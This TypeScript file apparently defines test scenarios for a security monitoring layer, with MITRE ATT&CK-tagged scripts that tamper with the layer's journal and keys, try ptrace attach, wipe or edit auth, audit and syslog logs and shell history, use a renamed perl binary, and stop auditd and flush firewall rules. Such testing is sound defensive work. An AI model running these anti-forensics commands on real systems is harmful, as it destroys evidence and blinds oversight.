import { scenarios, WWW_DATA } from "../scenario.ts";

const BLIND = ["T1562", "T1562.001", "T1489", "T1070"] as const;
const LOGS = ["T1070", "T1070.002", "T1070.003", "T1562"] as const;
/** Where the layer of the lab keeps what it knows: the one state folder in the room. Found as an attacker would. */
const STATE = "s=$(ls -d /tmp/swarms-lab-*/state | head -1)";

/** Against whoever watches, and against what was written down. Nothing is changed that the layer needs. */
export const TAMPERING = scenarios([
  {
    id: "tampering.journal",
    title: "opens the layer's journal and key to write",
    techniques: BLIND,
    script: `${STATE}; act; for f in $s/journal/* $s/journal.jsonl $s/*.pem $s/journal/key.pem; do [ ! -f $f ] || : >> $f; done; sleep 0.5`,
  },
  {
    id: "tampering.files",
    title: "puts files beside the layer's own, renames and removes them",
    techniques: BLIND,
    variant: "scripted",
    needs: ["python3"],
    script: `act; python3 -c 'import glob,os,time
s=glob.glob("/tmp/swarms-lab-*/state")[0]
for f in ("swarms.yaml.new","x.sock"):
  open(s+"/"+f,"w").write("x"); os.rename(s+"/"+f,s+"/"+f+".old"); os.unlink(s+"/"+f+".old")
c=open(s+"/swarms.yaml","a"); c.close(); time.sleep(0.5)'`,
  },
  {
    id: "tampering.ptrace",
    title: "tries to attach to the layer's processes",
    techniques: [...BLIND, "T1055", "T1055.008", "T1055.009"],
    variant: "scripted",
    needs: ["python3"],
    // PTRACE_SEIZE with an option that no kernel knows is refused before anything is touched.
    script: `act; python3 -c 'import ctypes,os,time
l=ctypes.CDLL(None,use_errno=True)
for p in os.listdir("/proc"):
  if not p.isdigit(): continue
  try: c=open("/proc/%s/cmdline"%p,"rb").read()
  except OSError: continue
  if b"swarms" in c and b"python" not in c and b"sh" != c[:2]: l.ptrace(0x4206,int(p),0,1<<30)
time.sleep(0.5)'`,
  },
  {
    id: "logs.truncate",
    title: "empties the logs of logins",
    techniques: LOGS,
    quick: true,
    script: "act; : > /var/log/auth.log; : > /var/log/wtmp; : > /var/log/btmp; : > /var/log/lastlog; sleep 0.5",
  },
  {
    id: "logs.remove",
    title: "removes logs, audit and histories, and links a history to nowhere",
    techniques: [...LOGS, "T1070.004"],
    script:
      "act; rm -f /var/log/syslog /var/log/audit/audit.log /var/log/nginx/access.log /root/.bash_history; ln -sf /dev/null /root/.bash_history; sleep 0.5",
  },
  {
    id: "logs.edit",
    title: "sed takes lines out of a log: a new file renamed onto the old",
    techniques: LOGS,
    prepare: "i=0; while [ $i -lt 50 ]; do echo line >> /var/log/auth.log; i=$((i+1)); done; echo w > /var/log/wtmp",
    script: "act; sed -i '/sshd/d' /var/log/auth.log; echo > /root/.bash_history; : > /var/log/wtmp; sleep 0.5",
  },
  {
    id: "logs.python-renamed",
    title: "a renamed interpreter empties logs as it goes",
    techniques: [...LOGS, "T1036", "T1036.005"],
    variant: "renamed",
    needs: ["perl"],
    prepare: "for f in auth.log syslog wtmp btmp; do echo x >> /var/log/$f; done",
    script: `act; cp /usr/bin/perl /tmp/logrotate; /tmp/logrotate -e 'for (qw(auth.log syslog wtmp btmp)) { truncate("/var/log/$_",0) } sleep 1'`,
  },
  {
    id: "firewall.flush",
    title: "stops services and takes rules of the firewall away, as www-data: all refused",
    techniques: [...BLIND, "T1562.004"],
    uid: WWW_DATA,
    script:
      "act; for c in 'systemctl stop auditd' 'service rsyslog stop' 'iptables -F' 'nft flush ruleset' 'setenforce 0' 'pkill -0 auditd'; do $c; done; sleep 0.5",
  },
]);
